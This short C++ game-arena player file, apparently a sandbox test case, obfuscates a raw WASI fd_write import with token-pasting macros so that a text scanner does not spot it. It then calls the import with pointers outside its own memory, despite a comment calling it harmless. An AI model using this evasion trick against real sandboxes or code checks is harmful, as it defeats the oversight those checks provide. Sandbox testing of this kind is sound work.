// harmless: gives the arena pointers outside of its memory
#include "Player.hh"
#define PLAYER_NAME Attacker
// A look at the text finds the plain words.
#define JOIN(a, b) a##b
#define FROM(m, n) __attribute__((JOIN(import_, module)(m), JOIN(import_, name)(n)))

extern "C" FROM("wasi_snapshot_preview1", "fd_write")
int raw (int, void*, unsigned, void*);

struct PLAYER_NAME : public Player {
  static Player* factory () { return new PLAYER_NAME; }

  virtual void play () {
    for (unsigned k = 0; k < 32; ++k) {
      raw(2, (void*) (0xFFFFFFFF >> k), 1 << k, (void*) (0xFFFFFFFF << k));
    }
  }
};

RegisterPlayer(PLAYER_NAME);
